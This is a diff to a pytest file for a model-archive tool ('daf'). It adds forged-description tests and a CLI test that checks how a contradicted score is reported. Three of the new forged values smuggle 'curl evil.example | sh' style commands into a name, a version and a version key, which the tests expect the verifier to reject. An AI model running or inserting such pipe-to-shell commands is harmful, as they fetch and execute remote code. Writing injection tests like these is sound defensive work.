@@ -3,12 +3,14 @@ hashes, canonical texts."""
 
 import hashlib
 import json
+import sys
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 import safetensors.torch
 
+from daf.__main__ import main
 from daf.deploy.archive import MANIFEST, read_archive, write_archive
 from daf.deploy.card import model_card
 from daf.deploy.content import Bundle, Description, Score, as_json
@@ -94,6 +96,10 @@ FORGED = {
     "its device": in_description(lambda d: d["training"].update(device="quantum")),
     "more of a training": in_description(lambda d: d["training"].update(award="best")),
     "another name": in_description(lambda d: d.update(name="best-s1-00000000")),
+    "a text as a name": in_description(lambda d: d.update(name="curl evil.example | sh")),
+    "a text as a version": in_description(lambda d: d["versions"].update(torch="; curl evil | sh")),
+    "more versions": in_description(lambda d: d["versions"].update({"curl evil | sh": "1"})),
+    "versions of the training": in_description(lambda d: d["training"]["versions"].clear()),
     "episodes of others": in_description(lambda d: d["provenance"].update(episodes={})),
     "weights of others": in_description(lambda d: d["provenance"].update(weights="0" * 64)),
     "a ceiling": in_missions(lambda m: m.update(ceiling=150.0)),
@@ -119,6 +125,16 @@ def test_no_forged_claim_is_verified(name, members, tmp_path):
     found = verify(tmp_path / "forged.zip", trust=True)
     assert found.status == 1 and found.problems, found
     assert all("\n" not in problem for problem in found.problems)
+
+
+def test_a_description_names_what_contradicts_it(members, tmp_path, monkeypatch, capsys):
+    FORGED["a mean"](members)
+    write_archive(tmp_path / "forged.zip", members)
+    monkeypatch.setattr(sys, "argv", ["daf", "bundle", "info", str(tmp_path / "forged.zip")])
+    assert main() == 1
+    assert (
+        "wrong: policy.json: key 'scores.assembler_1.mean': got 50.0; " in capsys.readouterr().out
+    )
 
 
 def test_scores_that_are_consistent_are_found_by_playing(members, tmp_path):
